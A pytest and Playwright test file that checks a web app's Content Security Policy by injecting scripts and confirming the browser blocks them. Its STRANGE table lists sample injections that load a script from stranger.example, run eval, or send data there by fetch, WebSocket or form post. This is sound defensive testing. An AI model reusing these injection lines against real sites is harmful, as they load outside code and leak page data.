"""The content policy in a real browser: no page asks for what it forbids, and what it forbids does not happen."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page

from tests.browser.screen import Screen
from tests.conftest import Windows

BLACKPOOL = "E06000009"
HEARD = """window.forbidden = [];
document.addEventListener('securitypolicyviolation', (event) =>
    forbidden.push([location.pathname, event.violatedDirective, event.blockedURI, event.sourceFile, event.sample].join(' ')))"""
LINKS = [
    "/map?measure=cni2023&level=lsoa21&show=most10,urban&over=names,councils,libraries",
    "/area?own=AAAYsWb8",
    f"/stories?place={BLACKPOOL}",
]
"""Links with what few other tests show. Of all others the tests that open them are the test: a browser says in its
console what a policy forbids, and any such message fails the test (``tests/conftest.py``)."""


@pytest.fixture
def screen(page: Page) -> Screen:
    """A page whose every frame notes what the policy forbade it. What is forbidden is told in the console too, which
    fails the test.
    """
    page.add_init_script(HEARD)
    return Screen(page)


def forbidden(screen: Screen) -> list[str]:
    return [
        each
        for frame in screen.page.frames
        if frame.url != "about:blank"
        for each in frame.evaluate("window.forbidden || []")
    ]


@pytest.mark.parametrize("link", LINKS)
def test_no_page_asks_for_what_the_policy_forbids(screen: Screen, link: str) -> None:
    screen.open(link)
    screen.page.get_by_role("heading").first.wait_for()
    if screen.page.locator("iframe").count():
        screen.painted(1)
    assert forbidden(screen) == []


def test_nor_does_what_is_taken_away_or_printed(screen: Screen, tmp_path: Path) -> None:
    page = screen.page
    screen.open("/evidence?part=files")
    page.locator(".modebar-btn").first.wait_for(state="attached")
    for number, button in enumerate((".modebar-btn", None)):
        with page.expect_download() as taken:
            if button:
                page.locator(button).first.dispatch_event("click")
            else:
                screen.idle()
                page.get_by_test_id("stDownloadButton").get_by_role("button").first.click()
        taken.value.save_as(tmp_path / str(number))
        assert (tmp_path / str(number)).stat().st_size > 500
    page.emulate_media(media="print")
    assert len(page.pdf()) > 10_000
    assert forbidden(screen) == []


STRANGE = {
    "a script written into the page": (
        "const made = document.createElement('script'); made.textContent = 'window.ran = true';"
        "document.body.append(made)",
        "script-src",
        "inline",
    ),
    "a script of a stranger's": (
        "const made = document.createElement('script'); made.src = 'http://stranger.example/a.js';"
        "document.body.append(made)",
        "script-src",
        "stranger",
    ),
    "text run as a script": ("try { (0, eval)('window.ran = true') } catch {}", "script-src", "eval"),
    "a picture of a stranger's": ("new Image().src = 'http://stranger.example/a.png'", "img-src", "stranger"),
    "words sent to a stranger": ("fetch('http://stranger.example/').catch(() => {})", "connect-src", "stranger"),
    "a line held open to a stranger": (
        "try { new WebSocket('ws://stranger.example/') } catch {}",
        "connect-src",
        "ws://stranger",
    ),
    "a form sent to a stranger": (
        "const made = document.createElement('form'); made.action = 'http://stranger.example/'; made.method = 'post';"
        "document.body.append(made); made.submit()",
        "form-action",
        "stranger",
    ),
    "a frame of a stranger's": (
        "const made = document.createElement('iframe'); made.src = 'http://stranger.example/';"
        "document.body.append(made)",
        "frame-src",
        "stranger",
    ),
}
"""What a script of the page's tries, the rule that forbids it, and what the browser says that it kept out."""


def test_what_the_policy_forbids_does_not_happen(windows: Windows) -> None:
    # Not by the fixture: that fails for what the browser says of it in its console, which is what is wanted here.
    window = windows.of()
    page = window.context.new_page()
    page.add_init_script(HEARD)
    page.goto("/about")
    page.get_by_role("heading", name="About the data").first.wait_for()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for what, (script, directive, kept_out) in STRANGE.items():
        # The browser's own console may run what it likes: what is tried is tried from a listener of the page's.
        page.evaluate(
            f"() => new Promise((done) => {{ forbidden.length = 0; setTimeout(() => {{ {script}; setTimeout(done) }}) }})"
        )
        try:
            page.wait_for_function("() => window.forbidden.length")
        except PlaywrightError as problem:
            problem.add_note(f"Nothing forbade {what}.")
            raise
        (said,) = page.evaluate("window.forbidden")
        assert directive in said and kept_out in said, what
        assert page.evaluate("window.ran") is None, what
        assert [each for each in asked if "stranger" in each and not each.startswith("http://stranger.example/a")] == []
    window.forget()


def test_no_other_page_can_put_the_app_in_a_frame(browser, server) -> None:
    """A page of another port of this machine is a stranger's too. (From elsewhere, Chromium lets none in by a rule of
    its own.)
    """

    class Frames(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<iframe src='{server.url}/map'></iframe>".encode())

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Frames) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        page = browser.new_page()
        with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
            page.goto(f"http://127.0.0.1:{other.server_address[1]}/")
        page.context.close()
        other.shutdown()
